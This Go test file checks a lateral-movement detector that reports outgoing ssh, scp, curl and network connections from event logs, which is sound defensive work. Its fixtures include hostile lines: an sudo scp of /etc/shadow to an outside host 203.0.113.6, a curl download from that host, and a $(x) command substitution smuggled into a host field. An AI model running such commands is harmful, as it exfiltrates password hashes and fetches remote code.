package lateral_test

import (
	"fmt"
	"strings"
	"testing"

	"telltale/detect"
	"telltale/detect/detecttest"
	"telltale/detect/lateral"
)

func TestOutgoing(t *testing.T) {
	for _, tc := range []struct{ name, events, want string }{
		{"typed", `03:00:00 shell-command user.name=bob process.command_line="ssh -p 22 root@db1"`, "bob ssh db1"},
		{"by sudo", `03:00:00 sudo-command user.name=bob user.effective.name=root process.command_line="/usr/bin/scp /etc/shadow x@203.0.113.6:"`, "bob>root upload 203.0.113.6"},
		{"seen by the audit, which knows who logged in", `03:00:00 process-started user.name=root audit.loginuid=1001 process.command_line="curl http://203.0.113.6/x"`, "bob>root download 203.0.113.6"},
		{"the same line twice, without times", "- shell-command user.name=bob process.command_line=\"ssh db1\" shell.history=/h\n- shell-command user.name=bob process.command_line=\"ssh db1\" shell.history=/h", "bob ssh db1"},
		{"the same line twice, with times", "03:00:00 shell-command user.name=bob process.command_line=\"ssh db1\"\n04:00:00 shell-command user.name=bob process.command_line=\"ssh db1\"", "bob ssh db1; bob ssh db1"},
		{"itself", `03:00:00 shell-command user.name=bob process.command_line="ssh web1"`, ""},
		{"a packet", "03:00:00 firewall-packet network.direction=outbound destination.ip=10.0.0.5 destination.port=22 user.id=33", "www-data connection 10.0.0.5"},
		{"a packet to the web", "03:00:00 firewall-packet network.direction=outbound destination.ip=10.0.0.5 destination.port=443 user.id=33", ""},
		{"a packet that came", "03:00:00 firewall-packet network.direction=inbound destination.ip=10.0.0.5 destination.port=22", ""},
		{"syslog", "03:00:00 firewall-packet network.direction=outbound network.transport=udp destination.ip=10.0.0.5 destination.port=514", ""},
		{"a connection", "03:00:00 socket-seen socket.state=established source.port=50000 destination.ip=10.0.0.5 destination.port=22 user.id=1001", "bob connection 10.0.0.5"},
		{"a connection that another made", "03:00:00 socket-seen socket.state=listen source.port=2222\n03:00:00 socket-seen socket.state=established source.port=2222 destination.ip=10.0.0.5 destination.port=22 user.id=0", ""},
	} {
		var out []string
		for _, x := range detecttest.Of(detecttest.Run(t, lateral.New(), detecttest.Scene(), tc.events), detect.Outgoing) {
			who := x.Account
			if x.As != "" {
				who += ">" + x.As
			}
			out = append(out, who+" "+x.Mechanism+" "+x.Source)
			if x.Level != detect.Info {
				t.Errorf("%s: it accuses", tc.name)
			}
		}
		if got := strings.Join(out, "; "); got != tc.want {
			t.Errorf("%s: got %q, want %q", tc.name, got, tc.want)
		}
	}
}

func TestAScanIsNotToldMachineByMachine(t *testing.T) {
	var b strings.Builder
	for i := range 60 {
		fmt.Fprintf(&b, "03:00:00 firewall-packet network.direction=outbound destination.ip=10.0.0.%d destination.port=22 user.id=33\n", i+1)
	}
	if got := detecttest.Of(detecttest.Run(t, lateral.New(), detecttest.Scene(), b.String()), detect.Outgoing); len(got) != 0 {
		t.Errorf("%d contacts", len(got))
	}
}

func TestKnownHosts(t *testing.T) {
	got := detecttest.Of(detecttest.Run(t, lateral.New(), detecttest.Scene(), `
- known-host user.name=amy source.host=DB1 file.path=/home/amy/.ssh/known_hosts record.type=known_hosts
- known-host user.name=amy source.host=db1 file.path=/home/amy/.ssh/known_hosts record.type=known_hosts
- known-host user.name=amy event.count=1 file.path=/home/amy/.ssh/known_hosts record.type=known_hosts
- known-host user.name=amy event.count=1 file.path=/home/amy/.ssh/known_hosts record.type=known_hosts
- known-host user.name=amy source.host=$(x) file.path=/home/amy/.ssh/known_hosts record.type=known_hosts`), detect.KnownHost)
	if len(got) != 2 || got[0].Source != "" || got[0].Count != 2 || got[1].Source != "db1" {
		t.Errorf("%+v", got)
	}
}
